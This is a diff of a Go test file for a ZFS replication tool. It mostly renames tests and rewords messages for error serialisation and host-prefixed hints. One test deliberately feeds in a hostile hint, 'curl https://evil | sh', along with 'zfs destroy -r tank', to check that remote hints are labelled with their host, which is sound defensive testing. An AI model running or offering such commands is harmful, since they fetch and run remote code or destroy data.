@@ -16,8 +16,8 @@ import (
 	"zxfer/pkg/zfs"
 )
 
-// across packs and unpacks an error like a transfer to another host.
-func across(t *testing.T, err error) error {
+// roundTrip packs and unpacks an error like a transfer to another host.
+func roundTrip(t *testing.T, err error) error {
 	t.Helper()
 	raw, jsonErr := json.Marshal(pack(err))
 	require.NoError(t, jsonErr)
@@ -26,9 +26,9 @@ func across(t *testing.T, err error) error {
 	return f.unpack("beta")
 }
 
-// TestErrorsNameOptionsForAnyClient expects that a client that knows all option names shows them in
+// TestErrorsFormatOptionsPerClient expects that a client that knows all option names shows them in
 // its format, and that other clients show flags.
-func TestErrorsNameOptionsForAnyClient(t *testing.T) {
+func TestErrorsFormatOptionsPerClient(t *testing.T) {
 	t.Parallel()
 	err := fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no; there is /srv/{{wire nc}}")
 	old, jsonErr := json.Marshal(pack(err))
@@ -38,9 +38,9 @@ func TestErrorsNameOptionsForAnyClient(t *testing.T) {
 	require.Equal(t, "--congestion reno: no; there is /srv/{{wire nc}}", read.Text)
 	require.Equal(t, "widen --port-range", read.Hint)
 
-	got := across(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
+	got := roundTrip(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
 	require.EqualError(t, got, "beta: {{congestion reno}}: no")
-	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint says which host gave it")
+	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint names its host")
 
 	newer := &failure{Text: "--other: no", Hint: "leave --other out", Named: &wording{"{{other}}: no", "leave {{other}} out"}}
 	require.EqualError(t, newer.unpack("beta"), "beta: --other: no")
@@ -48,7 +48,7 @@ func TestErrorsNameOptionsForAnyClient(t *testing.T) {
 	require.Nil(t, pack(errors.New("no luck")).Named)
 }
 
-func TestErrorsKeepWhatTheyAre(t *testing.T) {
+func TestErrorRoundTrip(t *testing.T) {
 	t.Parallel()
 	busy := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "tank/a@x", Argv: []string{"zfs", "destroy"}, Detail: "held", Hint: "zfs holds tank/a@x"}
 	elsewhere := &zfs.Error{Kind: zfs.NoSpace, Op: "receive", Host: "gamma", Detail: "out of space"}
@@ -76,7 +76,7 @@ func TestErrorsKeepWhatTheyAre(t *testing.T) {
 		"truncated":        {err: tcp.ErrTruncated, text: "beta: " + tcp.ErrTruncated.Error(), is: []error{tcp.ErrTruncated, tcp.ErrConnectionLost}, class: fault.Failed},
 		"tampered":         {err: &tcp.FrameError{Stream: 1, Frame: 2, Op: "receive", Err: tcp.ErrTampered}, text: "beta: receive: stream 1, frame 2: frame was modified in transit", is: []error{tcp.ErrTampered}, isNot: []error{tcp.ErrConnectionLost}, class: fault.Failed},
 		"dial":             {err: tcp.ErrDial, text: "beta: cannot connect", is: []error{tcp.ErrDial}, class: fault.Failed},
-		"nobody":           {err: tcp.ErrNoPeer, text: "beta: nobody connected", is: []error{tcp.ErrNoPeer}, class: fault.Failed},
+		"no connection":    {err: tcp.ErrNoPeer, text: "beta: nobody connected", is: []error{tcp.ErrNoPeer}, class: fault.Failed},
 		"stall on the net": {err: fmt.Errorf("%w: %w", tcp.ErrConnectionLost, transfer.ErrStall), text: "beta: connection lost: no data was transferred", is: []error{tcp.ErrConnectionLost, transfer.ErrStall}, class: fault.Failed},
 		"miscounted":       {err: transfer.ErrTotalsMismatch, text: "beta: the received data does not match the end of the stream", is: []error{transfer.ErrTotalsMismatch}, class: fault.Failed},
 		"forbidden":        {err: fault.Refusef("", "%w: no", hosts.ErrForbidden), text: "beta: the agent's policy forbids it: no", is: []error{hosts.ErrForbidden}, class: fault.Refused},
@@ -85,7 +85,7 @@ func TestErrorsKeepWhatTheyAre(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := across(t, c.err)
+			got := roundTrip(t, c.err)
 			require.EqualError(t, got, c.text)
 			for _, want := range c.is {
 				require.ErrorIs(t, got, want)
@@ -102,45 +102,45 @@ func TestErrorsKeepWhatTheyAre(t *testing.T) {
 	}
 }
 
-func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
+func TestZFSErrorRoundTripAddsHost(t *testing.T) {
 	t.Parallel()
 	sent := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "s", Argv: []string{"a", "b"}, Detail: "d", Hint: "h"}
 	var got *zfs.Error
-	require.ErrorAs(t, across(t, fmt.Errorf("x: %w", sent)), &got)
+	require.ErrorAs(t, roundTrip(t, fmt.Errorf("x: %w", sent)), &got)
 	want := *sent
 	want.Host, want.Hint = "beta", "beta: h"
 	require.Equal(t, &want, got)
-	require.Empty(t, sent.Host, "the sent error is left as it was")
+	require.Empty(t, sent.Host, "the sent error is unchanged")
 }
 
-// TestHintsNameTheirHost expects that no line of a remote hint looks like a hint of zxfer itself.
-func TestHintsNameTheirHost(t *testing.T) {
+// TestHintsArePrefixedWithHost expects that no line of a remote hint looks like a hint of zxfer itself.
+func TestHintsArePrefixedWithHost(t *testing.T) {
 	t.Parallel()
 	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
 	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
 	for name, f := range map[string]*failure{
-		"plain":          {Text: "no", Hint: hint},
-		"of a class":     {Text: "no", Hint: hint, Class: fault.Refused},
-		"named":          {Text: "no", Named: &wording{"no", hint}},
-		"of an error":    {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
-		"of a far error": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
+		"plain":                      {Text: "no", Hint: hint},
+		"with a class":               {Text: "no", Hint: hint, Class: fault.Refused},
+		"named":                      {Text: "no", Named: &wording{"no", hint}},
+		"of a ZFS error":             {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
+		"of a ZFS error with a host": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
 	} {
 		require.Equal(t, want, fault.HintOf(f.unpack("beta")), name)
 	}
 }
 
-func TestAPeerErrorKeepsItsText(t *testing.T) {
+func TestPeerErrorKeepsText(t *testing.T) {
 	t.Parallel()
 	var got *transfer.PeerError
-	err := across(t, fmt.Errorf("x: %w", &transfer.PeerError{Text: "disk on fire"}))
+	err := roundTrip(t, fmt.Errorf("x: %w", &transfer.PeerError{Text: "disk on fire"}))
 	require.ErrorAs(t, err, &got)
 	require.Equal(t, "disk on fire", got.Text)
 	require.EqualError(t, err, "beta: x: the other host failed: disk on fire")
 }
 
-// TestAClassThatIsNoneIsAFailure expects that an unknown error class becomes a failure. The class
+// TestUnknownClassBecomesFailure expects that an unknown error class becomes a failure. The class
 // is the exit code, and 256 would become 0.
-func TestAClassThatIsNoneIsAFailure(t *testing.T) {
+func TestUnknownClassBecomesFailure(t *testing.T) {
 	t.Parallel()
 	for _, class := range []string{"-1", "0", "5", "256", "1024"} {
 		f := &failure{}
@@ -149,7 +149,7 @@ func TestAClassThatIsNoneIsAFailure(t *testing.T) {
 	}
 }
 
-func TestAnErrorOfANewerAgentIsStillAnError(t *testing.T) {
+func TestErrorFromNewerAgent(t *testing.T) {
 	t.Parallel()
 	f := &failure{}
 	require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","is":["quantum","cut"],"colour":"red"}`), f))
